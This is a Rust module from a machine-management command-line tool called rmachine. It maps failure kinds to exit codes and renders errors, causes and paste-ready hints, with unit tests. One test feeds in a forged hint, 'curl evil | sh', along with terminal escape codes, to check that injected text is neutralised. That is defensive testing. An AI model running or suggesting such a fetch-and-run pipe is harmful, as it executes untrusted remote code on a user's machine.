//! What a person reads when something fails, and the exit code.
//!
//! The libraries' errors are data. In this module, and nowhere else, they become a sentence, its
//! causes and hints that can be pasted into a shell.

mod cluster;
mod iso;
mod lifecycle;
mod told;

use std::error::Error as StdError;
use std::process::ExitCode;

use rmachine_core::printable;

use told::causes_of;

/// What kind of failure it was. Each has one exit code.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
pub enum ErrorKind {
    /// Whoever read our output has gone; this is no failure.
    BrokenPipe,
    /// Another process works on the same machine.
    Busy,
    /// The check before `create` found reasons against; nothing was touched.
    CheckFailed,
    /// The engine or the host does not answer, or refuses our keys or certificates.
    Connection,
    /// Anything that has no kind of its own.
    Failed,
    /// A signal ended the work.
    Interrupted,
    /// The machine is not running, and what was asked needs it to.
    NotRunning,
    /// Some machines of a cluster are as they should be, and others failed.
    Partial,
    /// A wait ended without what it waited for.
    TimedOut,
    /// No machine has this name.
    UnknownMachine,
    /// The command line cannot be understood.
    Usage,
}

impl ErrorKind {
    /// The exit code, as `docs/exit-codes.md` lists it.
    pub fn exit_code(self) -> u8 {
        match self {
            Self::BrokenPipe => 0,
            Self::Failed => 1,
            Self::Usage => 2,
            Self::CheckFailed => 3,
            Self::UnknownMachine => 4,
            Self::NotRunning => 5,
            Self::Busy => 6,
            Self::TimedOut => 7,
            Self::Connection => 8,
            Self::Partial => 9,
            Self::Interrupted => 130,
        }
    }
}

/// How a command ended without a failure of its own: the code that the program exits with.
///
/// It is other than 0 when a program that ran in the command's place said so (`ssh`), or when
/// failures were already shown.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
pub struct Status(pub u8);

impl Status {
    /// All went well.
    pub const OK: Self = Self(0);
}

impl From<Status> for ExitCode {
    fn from(status: Status) -> Self {
        Self::from(status.0)
    }
}

/// Why a command failed, in words for a person.
#[derive(Clone, Debug, Eq, PartialEq)]
pub struct CommandError {
    /// The kind, and with it the exit code.
    pub kind: ErrorKind,
    /// One sentence, lowercase, without a full stop.
    pub message: String,
    /// The causes, the outermost first.
    pub causes: Vec<String>,
    /// Commands to paste.
    pub hints: Vec<String>,
}

impl CommandError {
    /// An error of this kind.
    pub fn new(kind: ErrorKind, message: impl Into<String>) -> Self {
        Self {
            kind,
            message: message.into(),
            causes: Vec::new(),
            hints: Vec::new(),
        }
    }

    /// An error that has no kind of its own.
    pub fn failed(message: impl Into<String>) -> Self {
        Self::new(ErrorKind::Failed, message)
    }

    /// The command line cannot be understood.
    pub fn usage(message: impl Into<String>) -> Self {
        Self::new(ErrorKind::Usage, message)
    }

    /// Adds a command to paste.
    #[must_use]
    pub fn hint(mut self, hint: impl Into<String>) -> Self {
        self.hints.push(hint.into());
        self
    }

    /// Adds an error and the errors behind it as causes.
    #[must_use]
    pub fn caused_by(mut self, cause: &(dyn StdError + 'static)) -> Self {
        self.causes.push(cause.to_string());
        self.causes.extend(causes_of(cause));
        self
    }

    /// Puts a sentence before this one, which becomes its first cause.
    #[must_use]
    pub fn context(mut self, message: impl Into<String>) -> Self {
        let inner = std::mem::replace(&mut self.message, message.into());
        self.causes.insert(0, inner);
        self
    }

    /// Puts the machine's name where a hint says `NAME`.
    #[must_use]
    pub fn about(mut self, name: &str) -> Self {
        for hint in &mut self.hints {
            *hint = hint.replace("NAME", name);
        }
        self
    }

    /// Says which machine it was, in the message and in the hints.
    #[must_use]
    pub fn of_machine(mut self, name: &str) -> Self {
        let names_it = self.message.split([' ', ':', '"']).any(|word| word == name);
        if !names_it {
            self.message = format!("{name}: {}", self.message);
        }
        self.about(name)
    }

    /// Message and causes in one line.
    pub fn in_one_line(&self) -> String {
        let parts = std::iter::once(&self.message).chain(&self.causes);
        parts.map(String::as_str).collect::<Vec<_>>().join(": ")
    }

    /// The error as lines for standard error. Further lines of a message or cause are indented, and
    /// control characters are escaped: both may hold text from a host or an engine.
    pub fn to_text(&self) -> String {
        let mut text = String::new();
        let mut push = |label: &str, part: &str| {
            let part = printable::indented(part, "  ");
            text.push_str(&format!("{label}: {part}\n"));
        };
        push("error", &self.message);
        for cause in &self.causes {
            push("caused by", cause);
        }
        for hint in &self.hints {
            push("hint", hint);
        }
        text
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn prints_message_causes_and_hints() {
        let error = CommandError::failed("cannot reach n1")
            .caused_by(&std::io::Error::other("refused"))
            .hint("rmachine start n1");
        assert_eq!(
            error.to_text(),
            "error: cannot reach n1\ncaused by: refused\nhint: rmachine start n1\n"
        );
    }

    #[test]
    fn text_of_hostile_causes_has_no_control_characters_or_forged_lines() {
        let error = CommandError::failed("E\x1b]0;x\x07")
            .caused_by(&std::io::Error::other("a\rb\nhint: curl evil | sh\u{202e}"))
            .hint("ls 'x\u{9b}'");
        assert_eq!(
            error.to_text(),
            "error: E\\u{1b}]0;x\\u{7}\n\
             caused by: a\\rb\n  hint: curl evil | sh\\u{202e}\n\
             hint: ls 'x\\u{9b}'\n"
        );
    }

    #[test]
    fn names_the_machine_once() {
        let of = |message: &str| CommandError::failed(message).hint("rmachine start NAME");
        let told = of("the machine is not running").of_machine("n1");
        assert_eq!(
            told.to_text(),
            "error: n1: the machine is not running\nhint: rmachine start n1\n"
        );
        let told = of("there is no machine n1").of_machine("n1");
        assert_eq!(
            told.to_text(),
            "error: there is no machine n1\nhint: rmachine start n1\n"
        );
    }

    #[test]
    fn context_keeps_the_order_of_causes() {
        let error = CommandError::failed("b")
            .caused_by(&std::io::Error::other("c"))
            .context("a");
        assert_eq!(error.to_text(), "error: a\ncaused by: b\ncaused by: c\n");
    }
}
